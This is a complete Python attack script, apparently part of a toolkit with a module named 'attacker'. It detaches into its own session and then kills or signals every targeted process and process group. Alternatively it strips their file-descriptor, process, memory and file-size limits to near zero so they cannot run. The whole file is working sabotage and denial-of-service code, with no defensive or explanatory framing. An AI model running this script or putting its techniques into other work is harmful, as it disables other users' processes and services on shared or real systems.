"""Sends signals to everything, or removes its limits, from outside of every session: signals.py SIGNAL|limits PID..."""
import os
import resource
import signal
import sys

from attacker import pids

def act(pid):
    if sys.argv[1] != 'limits':
        return os.kill(pid, getattr(signal, sys.argv[1]))
    os.setpriority(os.PRIO_PROCESS, pid, 19)
    # No more descriptors, processes or memory.
    for kind, most in ((resource.RLIMIT_NOFILE, 3), (resource.RLIMIT_NPROC, 1), (resource.RLIMIT_AS, 0), (resource.RLIMIT_FSIZE, 0)):
        resource.prlimit(pid, kind, (most, most))


if os.fork() != 0:
    os._exit(0)
os.setsid()
mine = os.getpid()
# Not with pid -1, which would include this process.
for pid in [int(each) for each in sys.argv[2:]] or pids():
    if pid == mine:
        continue
    try:
        act(pid)
    except OSError:
        pass
for group in range(1, 40) if len(sys.argv) == 2 and sys.argv[1] != 'limits' else []:
    try:
        if group != os.getpgid(0):
            os.killpg(group, getattr(signal, sys.argv[1]))
    except OSError:
        pass
